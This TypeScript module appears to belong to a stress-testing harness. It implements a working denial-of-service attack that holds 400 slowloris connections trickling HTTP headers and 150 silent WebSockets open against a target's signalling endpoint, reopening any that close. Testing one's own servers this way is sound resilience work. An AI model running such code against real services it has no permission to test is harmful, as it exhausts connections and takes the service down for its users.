import { connect, type Socket } from 'node:net';
import { WebSocket } from 'ws';
import type { Attack, AttackContext } from '../Attack.ts';
import { untilAborted } from '../abortableWait.ts';

const IDLE_WEBSOCKETS = 150;
const SLOWLORIS_SOCKETS = 400;

/** Keeps one WebSocket open that never says hello; opens another whenever the edge closes it. */
async function idleWebSocket(context: AttackContext): Promise<void> {
  const wsUrl = `${context.url.replace(/^http/, 'ws')}/signal`;
  while (!context.signal.aborted) {
    const ws = new WebSocket(wsUrl);
    ws.on('error', () => undefined);
    ws.on('unexpected-response', (_request, response) => {
      context.count(`upgrade refused ${response.statusCode}`);
      ws.terminate();
    });
    ws.on('open', () => context.count('idle websocket opened'));
    const closed = new Promise<void>((resolve) => ws.once('close', () => resolve()));
    await Promise.race([closed, untilAborted(context.signal)]);
    ws.terminate();
    if (!context.signal.aborted) await new Promise((resolve) => setTimeout(resolve, 200));
  }
}

/** An HTTP request whose headers never end: one more header line every 2 s. */
function slowloris(context: AttackContext, onClosed: () => void): Socket {
  const { hostname, port } = new URL(context.url);
  const socket = connect({ host: hostname.replace(/^\[|\]$/g, ''), port: Number(port) });
  let timer: NodeJS.Timeout | undefined;
  socket.on('error', () => undefined);
  socket.on('connect', () => {
    socket.write(`GET /signal HTTP/1.1\r\nHost: ${hostname}\r\n`);
    timer = setInterval(() => socket.write(`X-Trickle-${Date.now()}: 1\r\n`), 2000);
  });
  socket.on('close', () => {
    clearInterval(timer);
    onClosed();
  });
  return socket;
}

export const idleSockets: Attack = {
  name: 'idle-and-slowloris',
  what: `${IDLE_WEBSOCKETS} WebSockets that never say hello (reopened when closed) + ${SLOWLORIS_SOCKETS} HTTP requests trickling headers`,
  sandboxes: 0,
  connections: 0,
  async run(context) {
    const sockets = new Set<Socket>();
    const open = (): void => {
      const socket = slowloris(context, () => {
        sockets.delete(socket);
        if (context.signal.aborted) return;
        context.count('slowloris socket closed by edge');
        setTimeout(open, 200);
      });
      sockets.add(socket);
    };
    for (let i = 0; i < SLOWLORIS_SOCKETS; i++) open();
    const idle = Array.from({ length: IDLE_WEBSOCKETS }, () => idleWebSocket(context));
    // Ready once the first wave had time to connect.
    await new Promise((resolve) => setTimeout(resolve, 1000));
    context.ready();
    await untilAborted(context.signal);
    for (const socket of sockets) socket.destroy();
    await Promise.all(idle);
  },
};
